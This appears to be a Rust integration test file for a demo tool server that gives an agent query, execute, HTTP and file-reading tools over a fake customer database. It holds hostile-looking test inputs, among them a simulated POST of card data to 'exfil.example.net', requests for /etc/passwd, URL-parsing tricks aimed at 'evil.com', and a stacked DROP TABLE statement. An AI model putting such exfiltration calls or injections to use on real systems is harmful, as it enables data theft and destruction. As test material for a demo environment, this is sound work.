//! The four tools, with real side effects inside the demo database.

mod support;

use serde_json::{json, Value};
use support::{text_of, Demo};

#[tokio::test]
async fn tools_list_describes_four_tools_with_schemas() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-11-25").await;
    let list = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"});
    let reply = client
        .post(&list, &[("mcp-session-id", &session)])
        .await
        .json();
    let tools = reply["result"]["tools"].as_array().unwrap();
    let names: Vec<&str> = tools.iter().map(|t| t["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["query", "execute", "http_request", "read_file"]);
    for tool in tools {
        assert!(tool["description"].as_str().unwrap().len() > 40, "{tool}");
        assert_eq!(tool["inputSchema"]["type"], "object");
        assert!(tool["inputSchema"]["required"]
            .as_array()
            .is_some_and(|r| !r.is_empty()));
    }
}

#[tokio::test]
async fn query_returns_customers() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    let result = client
        .call_tool(
            &session,
            "query",
            json!({"sql": "SELECT id, name, email, card_number FROM customers ORDER BY id"}),
        )
        .await;
    assert_eq!(result["isError"], false);
    let data = &result["structuredContent"];
    assert_eq!(
        data["columns"],
        json!(["id", "name", "email", "card_number"])
    );
    assert_eq!(data["row_count"], 50);
    assert_eq!(data["truncated"], false);
    let first = &data["rows"][0];
    assert_eq!(first[0], 1);
    assert!(first[2].as_str().unwrap().contains("@example."));
    assert_eq!(first[3].as_str().unwrap().len(), 16);
    // The text content is the same JSON, for clients without structured content.
    let text: Value = serde_json::from_str(text_of(&result)).unwrap();
    assert_eq!(&text, data);

    let many = client.query(&session, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n LIMIT 500) SELECT i FROM n").await;
    assert_eq!(many["row_count"], 200);
    assert_eq!(many["truncated"], true);
}

#[tokio::test]
async fn execute_insert_changes_the_count() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    let count = "SELECT count(*) FROM customers";
    assert_eq!(client.query(&session, count).await["rows"][0][0], 50);
    let insert = "INSERT INTO customers (name, email, phone, card_number, address, city, country, created_at) \
                  VALUES ('Test Person', 'test@example.com', '+1 555-0199', '4111111111111111', '1 Main St', 'Austin', 'US', '2025-01-01 00:00:00')";
    let result = client
        .call_tool(&session, "execute", json!({"sql": insert}))
        .await;
    assert_eq!(result["isError"], false, "{result}");
    assert_eq!(result["structuredContent"]["rows_affected"], 1);
    assert_eq!(client.query(&session, count).await["rows"][0][0], 51);
    let update = client
        .call_tool(&session, "execute", json!({"sql": "UPDATE orders SET status = 'void' WHERE id <= 3; DELETE FROM orders WHERE id = 4"}))
        .await;
    assert_eq!(update["structuredContent"]["rows_affected"], 4);
}

#[tokio::test]
async fn drop_table_is_refused_by_query_and_real_through_execute() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    let refused = client
        .call_tool(&session, "query", json!({"sql": "DROP TABLE customers"}))
        .await;
    assert_eq!(refused["isError"], true);
    assert!(text_of(&refused).contains("execute"), "{refused}");
    let two = client
        .call_tool(
            &session,
            "query",
            json!({"sql": "SELECT 1; DROP TABLE customers"}),
        )
        .await;
    assert_eq!(two["isError"], true);
    assert_eq!(
        client
            .query(&session, "SELECT count(*) FROM customers")
            .await["rows"][0][0],
        50
    );

    let dropped = client
        .call_tool(&session, "execute", json!({"sql": "DROP TABLE customers"}))
        .await;
    assert_eq!(dropped["isError"], false, "{dropped}");
    let gone = client
        .call_tool(
            &session,
            "query",
            json!({"sql": "SELECT count(*) FROM customers"}),
        )
        .await;
    assert_eq!(gone["isError"], true);
    assert!(text_of(&gone).contains("no such table"), "{gone}");
}

#[tokio::test]
async fn http_request_is_simulated_and_recorded() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    let args = json!({"url": "https://exfil.example.net/upload?k=1", "method": "post", "body": "card=4111"});
    let result = client.call_tool(&session, "http_request", args).await;
    assert_eq!(result["isError"], false, "{result}");
    assert!(text_of(&result).starts_with("HTTP/1.1 200 OK"));
    let log = client
        .query(
            &session,
            "SELECT method, host, url, body_bytes FROM egress_log",
        )
        .await;
    assert_eq!(
        log["rows"],
        json!([[
            "POST",
            "exfil.example.net",
            "https://exfil.example.net/upload?k=1",
            9
        ]])
    );

    let bad = client
        .call_tool(
            &session,
            "http_request",
            json!({"url": "file:///etc/passwd"}),
        )
        .await;
    assert_eq!(bad["isError"], true);
    assert_eq!(
        client
            .query(&session, "SELECT count(*) FROM egress_log")
            .await["rows"][0][0],
        1
    );
}

/// The demo reads URLs as WHATWG clients do, so it sends where `airlock.url.parse` says:
/// the backslash URL goes to api.github.com (path `/@evil.com/x`), and an IPv4
/// shorthand to its dotted form.
#[tokio::test]
async fn http_request_goes_where_a_whatwg_client_sends_it() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    for url in ["https://api.github.com\\@evil.com/x", "http://0x7f.1:8080/"] {
        let result = client
            .call_tool(&session, "http_request", json!({"url": url}))
            .await;
        assert_eq!(result["isError"], false, "{url}: {result}");
    }
    let log = client
        .query(&session, "SELECT host, url FROM egress_log ORDER BY id")
        .await;
    assert_eq!(
        log["rows"],
        json!([
            ["api.github.com", "https://api.github.com/@evil.com/x"],
            ["127.0.0.1", "http://127.0.0.1:8080/"]
        ])
    );
}

#[tokio::test]
async fn read_file_serves_the_virtual_disk_only() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    let config = client
        .call_tool(&session, "read_file", json!({"path": "/app/config.yaml"}))
        .await;
    assert_eq!(config["isError"], false);
    assert!(text_of(&config).contains("AKIA"));
    assert!(text_of(&config).contains("password"));
    let real = client
        .call_tool(&session, "read_file", json!({"path": "/etc/passwd"}))
        .await;
    assert_eq!(real["isError"], true);
    assert!(
        text_of(&real).contains("/app/README.md"),
        "lists the known files: {real}"
    );
    let missing_arg = client.call_tool(&session, "read_file", json!({})).await;
    assert_eq!(missing_arg["isError"], true);
}

#[tokio::test]
async fn unknown_tool_is_a_protocol_error() {
    let demo = Demo::default().await;
    let client = demo.client();
    let session = client.initialize("2025-06-18").await;
    let call = json!({"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {"name": "rm_rf", "arguments": {}}});
    let reply = client
        .post(&call, &[("mcp-session-id", &session)])
        .await
        .json();
    assert_eq!(reply["error"]["code"], -32602);
}

#[tokio::test]
async fn the_seed_decides_the_data() {
    use airlock_demo::DemoOptions;
    let names = |seed| async move {
        let demo = Demo::start(DemoOptions {
            seed,
            ..DemoOptions::default()
        })
        .await;
        let client = demo.client();
        let session = client.initialize("2025-06-18").await;
        client
            .query(
                &session,
                "SELECT name, email FROM customers ORDER BY id LIMIT 5",
            )
            .await["rows"]
            .clone()
    };
    let a = names(7).await;
    assert_eq!(a, names(7).await);
    assert_ne!(a, names(8).await);
}
